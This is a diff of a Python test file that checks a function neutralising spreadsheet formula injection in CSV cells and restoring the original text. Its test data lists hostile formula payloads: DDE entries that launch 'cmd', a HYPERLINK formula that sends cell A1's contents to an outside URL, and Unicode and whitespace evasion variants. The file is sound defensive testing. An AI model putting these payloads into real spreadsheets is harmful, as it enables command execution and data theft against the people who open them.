@@ -1,22 +1,64 @@
 """Cells that a spreadsheet takes for text, and their way back."""
 
+import re
+
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from csvdynamo_airflow.rejects.spreadsheet_cells import neutralise, restore
 
+FORMULA = re.compile(r"[\s\x00-\x1f\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]|[\t\r\n]")
+"""What some spreadsheet may run, told another way than the code does."""
 
-@pytest.mark.parametrize("start", list("=+-@\t\r"))
-def test_what_a_spreadsheet_would_run_becomes_text(start: str) -> None:
-    assert neutralise(f"{start}1+1") == f"'{start}1+1"
+ATTACKS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '=HYPERLINK("http://example.org/?"&A1,"see")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\x00=1+1",
+    " \t\r\n +1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1,1)",
+    " \uff1d1+1",
+    "\ufe661+1",
+]
 
 
-@pytest.mark.parametrize("text", ["", "1+1", " =1", "a'b", "Ωmega"])
+@pytest.mark.parametrize("text", ATTACKS)
+def test_what_a_spreadsheet_would_run_becomes_text(text: str) -> None:
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["", "1+1", "a=1", " a", '"=1', "(=1", "a'b", "Ωmega", "\u00bd cup", ";=1", "#REF"])
 def test_what_no_spreadsheet_runs_stays_as_it_is(text: str) -> None:
     assert neutralise(text) == text
 
 
-@given(st.text() | st.text(alphabet="'=+-@\t\rx"))
-def test_every_text_comes_back_to_the_letter(text: str) -> None:
-    assert restore(neutralise(text)) == text
+_TEXTS = (
+    st.text() | st.text(alphabet="'=+-@\t\r\n \u200b\u3000\uff1d\uff0b\uff0d\uff20x\",;") | st.sampled_from(ATTACKS)
+)
+
+
+@given(_TEXTS)
+@example("''=1")
+@example("'")
+def test_every_text_comes_back_to_the_letter_and_is_no_formula_meanwhile(text: str) -> None:
+    cell = neutralise(text)
+
+    assert restore(cell) == text
+    assert not FORMULA.match(cell)
